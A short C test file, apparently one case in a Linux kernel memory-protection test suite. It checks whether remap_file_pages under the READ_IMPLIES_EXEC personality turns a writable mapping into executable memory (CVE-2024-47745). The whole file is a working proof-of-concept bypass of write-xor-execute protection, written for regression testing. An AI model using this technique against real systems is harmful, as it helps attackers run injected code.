// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G1. remap_file_pages(2) under READ_IMPLIES_EXEC: it maps the same memory again, and the new
 * mapping is executable. Source: CVE-2024-47745; 6.12 survey, "remap_file_pages". Control: the code
 * runs.
 */
#define _GNU_SOURCE
#include <string.h>
#include <sys/mman.h>
#include <sys/personality.h>

#include "attack.h"
#include "code.h"

void attack(void)
{
	char *memory = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);

	if (memory == MAP_FAILED)
		broken("mmap");
	memcpy(memory + 4096, code_1337, sizeof(code_1337));
	if (personality(READ_IMPLIES_EXEC) < 0)
		no_effect(errno);
	if (remap_file_pages(memory, 4096, 0, 1, 0))
		no_effect(errno);
	judge(runs_code(memory));
}
